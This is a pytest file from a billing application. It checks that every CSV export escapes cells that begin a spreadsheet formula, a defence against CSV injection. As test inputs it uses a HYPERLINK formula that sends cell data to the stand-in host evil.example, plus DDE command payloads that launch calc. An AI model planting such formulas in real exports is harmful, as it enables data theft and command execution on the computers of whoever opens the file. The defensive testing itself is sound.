"""Issue 16 item 5: every CSV export goes through one writer (``core.csv_export``) that
neutralises spreadsheet formulas: a text cell beginning with = + - @ tab or CR (or a single
quote, so the rule can be undone exactly) gets a leading single quote (OWASP "CSV
injection"). Numbers the exporter writes itself (amounts such as -6.66) stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from core import csv_export
from core.billing.invoicing import lifecycle
from core.billing.runs import engine
from tests.billing_support import setup_catalog, subscribe, usage

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Contoso Ltd")'
app = pytest.fixture(lambda make_app: make_app(plugins=["billing_units"]), name="app")


def cells(text: str) -> list[str]:
    """Every cell a spreadsheet would see, header lines (``# key: value``) included."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formulas(text: str) -> list[str]:
    return [
        c for c in cells(text) if c[:1] in csv_export.FORMULA_STARTS and not csv_export.is_number(c)
    ]


# -- the writer ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("Contoso Ltd", "Contoso Ltd"),
        ("a=b", "a=b"),
        ("-6.66", "-6.66"),
        ("-6", "-6"),
        ("12.50", "12.50"),
        (-6.66, "-6.66"),
        (-7, "-7"),
        (None, ""),
        ("", ""),
        ("-", "'-"),
        ("-6.66e3", "'-6.66e3"),
        ("- 6", "'- 6"),
    ],
)
def test_cells_that_begin_a_formula_are_quoted_numbers_are_not(value, written):
    assert csv_export.safe_cell(value) == written
    assert cells(csv_export.rows_to_text([[value]])) == [written] or written == ""
    if isinstance(value, str) and value:
        assert csv_export.unescape_cell(written) == value


def test_a_row_round_trips_through_the_reader():
    rows = [["name", "amount"], [FORMULA, "-6.66"], ["'quoted", "1"]]
    text = csv_export.rows_to_text(rows)
    assert not formulas(text)
    back = [[csv_export.unescape_cell(c) for c in row] for row in csv.reader(io.StringIO(text))]
    assert back == rows


# -- the exports (reproduction 6) ------------------------------------------------------------


def test_a_customer_named_like_a_formula_is_neutralised_in_every_export(world, api, ctx):
    a = world.customer_a
    renamed = api(world.user_a).patch(f"/api/v1/accounts/{a.id}", json={"name": FORMULA})
    assert renamed.status_code == 200, renamed.get_json()
    _, plan = setup_catalog(world.provider, price="10.00", rate="0.50")
    sub = subscribe(a, plan, start="2026-01-01")
    usage(sub, "4", "2026-01-10", "u1")
    engine.run(date(2026, 2, 1))
    op = api(world.operator)

    # the provider's activity report
    activity = op.get(f"/api/v1/accounts/{world.provider.id}/activity.csv?from=2026-01&to=2026-02")
    assert activity.status_code == 200
    text = activity.get_data(as_text=True)
    assert "'" + FORMULA in cells(text) and not formulas(text)

    # a RAW invoice: the account name in the header, a formula in a line description
    draft = lifecycle.create_draft(None, a, world.provider, [
        {"description": FORMULA, "unit_price": "-6.66"},
        {"description": "@cmd|' /C calc'!A0", "unit_price": "20.00"}])  # fmt: skip
    invoice = lifecycle.issue(draft)
    raw = op.get(f"/api/v1/invoices/{invoice.id}/files/RAW")
    assert raw.status_code == 200, raw.get_data(as_text=True)
    text = raw.get_data(as_text=True)
    assert not formulas(text), formulas(text)
    assert "-6.66" in cells(text)  # amounts stay numbers
    from core.billing.invoicing import raw as raw_format

    header, lines = raw_format.parse(raw.get_data())
    assert header["account"] == FORMULA  # read back exactly
    assert [x["description"] for x in lines] == [FORMULA, "@cmd|' /C calc'!A0"]
    assert lines[0]["amount"] == "-6.66"

    # the customer's statement: a payment reference like a formula
    pay = op.post(f"/api/v1/accounts/{a.id}/payments",
                  json={"amount": "1.00", "reference": "+cmd|' /C calc'!A0"})  # fmt: skip
    assert pay.status_code == 201, pay.get_json()
    statement = op.get(f"/api/v1/accounts/{a.id}/statement.csv?from=2026-01-01&to={date.today()}")
    assert statement.status_code == 200
    text = statement.get_data(as_text=True)
    assert "'+cmd|' /C calc'!A0" in cells(text) and not formulas(text), formulas(text)


def test_a_billing_unit_named_like_a_formula_is_neutralised_in_the_units_report(
    world, api, ctx, install_license
):
    install_license(["BH-UNITS"])
    ctx.extensions["billhive"].host.set_enabled("billing_units", True)
    client = api(world.user_a)
    acc = world.customer_a.id
    unit = client.post(f"/api/v1/accounts/{acc}/billing-units", json={"name": FORMULA})
    assert unit.status_code == 201, unit.get_json()
    report = client.get(
        f"/api/v1/accounts/{acc}/billing-units/report.csv?start=2024-05-01&end=2024-06-01"
    )
    assert report.status_code == 200
    text = report.get_data(as_text=True)
    assert "'" + FORMULA in cells(text) and not formulas(text), text


def test_every_csv_writer_in_the_code_is_the_safe_one():
    """``csv.writer`` appears only in core/csv_export.py (a new export cannot forget it)."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(path.relative_to(root))
        for folder in ("core", "plugins", "hostapp")
        for path in (root / folder).rglob("*.py")
        if ("csv.writer" in path.read_text() or "DictWriter" in path.read_text())
        and path.name != "csv_export.py"
    ]
    assert offenders == []
